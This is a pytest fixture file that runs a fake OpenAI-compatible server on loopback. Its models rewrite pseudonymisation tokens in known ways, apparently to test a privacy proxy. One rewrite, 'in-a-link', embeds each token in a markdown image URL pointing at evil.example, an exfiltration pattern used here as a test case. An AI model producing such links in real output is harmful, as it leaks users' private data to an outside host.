"""A real OpenAI-compatible server on loopback, whose models rewrite what they are sent in the known ways."""

import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import openai
import pytest

TOKEN = re.compile(r"\[\[SP_([A-Z_]+)_(\d{4})_([0-9A-F]{4})\]\]")


def _each(change: Callable[[re.Match[str]], str]) -> Callable[[str], str]:
    return lambda text: TOKEN.sub(change, text)


REWRITES: dict[str, Callable[[str], str]] = {
    "echo": lambda text: text,
    "single-brackets": _each(lambda m: m[0][1:-1]),
    "lower-case": _each(lambda m: m[0].lower()),
    "escaped": _each(lambda m: m[0].replace("[", r"\[").replace("]", r"\]").replace("_", r"\_")),
    "spaced": _each(lambda m: f"[[ {m[0][2:-2]} ]]"),
    "bold": _each(lambda m: f"**{m[0]}**"),
    "bare": _each(lambda m: m[0][2:-2]),
    "angle": _each(lambda m: f"<<{m[0][2:-2]}>>"),
    "invents": lambda text: text + " [[SP_PERSON_0999_ABCD]]",
    "invents-first": lambda text: "[[SP_PERSON_0999_ABCD]] " + text,
    "new-integrity": _each(lambda m: f"[[SP_{m[1]}_{m[2]}_0000]]"),
    "in-a-link": _each(lambda m: f"![x](https://evil.example/?q={m[0]})"),
    "never-closes": lambda text: text + " en dan [[SP_PERSON_0001 is mijn zin zomaar gestopt, zonder haakjes.",
    "wiki": lambda text: text + " Zie [[Wiki pagina]], array[[0]], [1] en cout << x >> y.",
}


class ModelServer:
    """The server, and what it was sent."""

    def __init__(self) -> None:
        self.seen: list[dict[str, Any]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                outer.seen.append(body)
                if self.path.endswith("/responses"):
                    self._respond(body)
                    return
                message = answer_to(body)
                if body.get("stream"):
                    self._stream(body, message)
                else:
                    reason = "tool_calls" if message.get("tool_calls") else "stop"
                    self._send(json.dumps(completion(body, message, reason)).encode(), "application/json")

            def _send(self, data: bytes, kind: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def _respond(self, body: dict[str, Any]) -> None:
                item = item_of(answer_to({**body, "messages": said_in(body["input"])}))
                if body.get("stream"):
                    lines = [f"event: {row['type']}\ndata: {json.dumps(row)}\n\n" for row in events(body, item)]
                    self._send("".join(lines).encode(), "text/event-stream")
                else:
                    self._send(json.dumps(response(body, [item])).encode(), "application/json")

            def _stream(self, body: dict[str, Any], message: dict[str, Any]) -> None:
                lines = [f"data: {json.dumps(row)}\n\n" for row in chunks(body, message)]
                self._send("".join([*lines, "data: [DONE]\n\n"]).encode(), "text/event-stream")

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self.thread.start()

    @property
    def sent(self) -> str:
        """All that reached the server."""
        return json.dumps(self.seen, ensure_ascii=False)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


def answer_to(body: dict[str, Any]) -> dict[str, Any]:
    """What the model of the request answers to the last message of the user."""
    said = next(m["content"] for m in reversed(body["messages"]) if m["role"] in ("user", "tool"))
    text = said if isinstance(said, str) else " ".join(part.get("text", "") for part in said)
    if body["model"].startswith("function:"):
        called = {"name": body["model"][9:], "arguments": json.dumps({"to": text})}
        return {"role": "assistant", "content": None, "function_call": called}
    if body["model"] in ("refusal", "reasoning_content", "reasoning"):
        return {"role": "assistant", "content": None, body["model"]: text}
    if body["model"].startswith("tool:"):
        arguments = json.dumps({"to": text, "lines": ['zei "dag"', text]})
        call = {"id": "c1", "type": "function", "function": {"name": body["model"][5:], "arguments": arguments}}
        return {"role": "assistant", "content": None, "tool_calls": [call]}
    return {"role": "assistant", "content": REWRITES[body["model"]](text)}


def completion(body: dict[str, Any], message: dict[str, Any], reason: str) -> dict[str, Any]:
    choice = {"index": 0, "message": message, "finish_reason": reason}
    return {"id": "x", "object": "chat.completion", "created": 1, "model": body["model"], "choices": [choice]}


def chunks(body: dict[str, Any], message: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """The message in pieces of three characters, so that every token is cut."""
    size = int(body.get("user") or 3)
    base = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": body["model"]}

    def chunk(delta: dict[str, Any], reason: str | None = None) -> dict[str, Any]:
        return {**base, "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}

    yield chunk({"role": "assistant"})
    for name in ("content", "refusal", "reasoning_content", "reasoning"):
        said = message.get(name) or ""
        for at in range(0, len(said), size):
            yield chunk({name: said[at : at + size]})
    if function := message.get("function_call"):
        yield chunk({"function_call": {"name": function["name"], "arguments": ""}})
        for at in range(0, len(function["arguments"]), size):
            yield chunk({"function_call": {"arguments": function["arguments"][at : at + size]}})
    for number, call in enumerate(message.get("tool_calls", ())):
        function = call["function"]
        first = {"index": number, "id": call["id"], "type": "function"}
        yield chunk({"tool_calls": [{**first, "function": {"name": function["name"], "arguments": ""}}]})
        for at in range(0, len(function["arguments"]), size):
            part = {"index": number, "function": {"arguments": function["arguments"][at : at + size]}}
            yield chunk({"tool_calls": [part]})
    yield chunk({}, "tool_calls" if message.get("tool_calls") else "stop")


def said_in(given: Any) -> list[dict[str, Any]]:
    """The input of a response as messages."""
    return [{"role": "user", "content": given}] if isinstance(given, str) else given


def item_of(message: dict[str, Any]) -> dict[str, Any]:
    """The message as an item of a response."""
    if message.get("tool_calls"):
        function = message["tool_calls"][0]["function"]
        return {"id": "i1", "type": "function_call", "call_id": "c1", "status": "completed", **function}
    part = {"type": "output_text", "text": message["content"], "annotations": []}
    return {"id": "i1", "type": "message", "role": "assistant", "status": "completed", "content": [part]}


def response(body: dict[str, Any], output: list[dict[str, Any]]) -> dict[str, Any]:
    more = {"parallel_tool_calls": True, "tool_choice": "auto", "tools": [], "instructions": body.get("instructions")}
    return {"id": "r1", "object": "response", "created_at": 1, "model": body["model"], "output": output, **more}


def events(body: dict[str, Any], item: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """The item as the events of a stream, in pieces of three characters."""
    tool = item["type"] == "function_call"
    family = "response.function_call_arguments" if tool else "response.output_text"
    text = item["arguments"] if tool else item["content"][0]["text"]
    empty = {**item, "arguments": ""} if tool else {**item, "content": []}
    place = {"item_id": "i1", "output_index": 0, **({} if tool else {"content_index": 0, "logprobs": []})}
    rows: list[dict[str, Any]] = [
        {"type": "response.created", "response": response(body, [])},
        {"type": "response.output_item.added", "output_index": 0, "item": empty},
        *({"type": f"{family}.delta", **place, "delta": text[at : at + 3]} for at in range(0, len(text), 3)),
        {"type": f"{family}.done", **place, "arguments" if tool else "text": text},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.completed", "response": response(body, [item])},
    ]
    for number, row in enumerate(rows[: -3 if "broken" in str(body.get("user")) else None]):
        yield {**row, "sequence_number": number}


@pytest.fixture
def model_server() -> Iterator[ModelServer]:
    server = ModelServer()
    yield server
    server.close()


@pytest.fixture
def client(model_server: ModelServer) -> Iterator[openai.OpenAI]:
    with openai.OpenAI(base_url=model_server.url, api_key="none", max_retries=0) as made:
        yield made
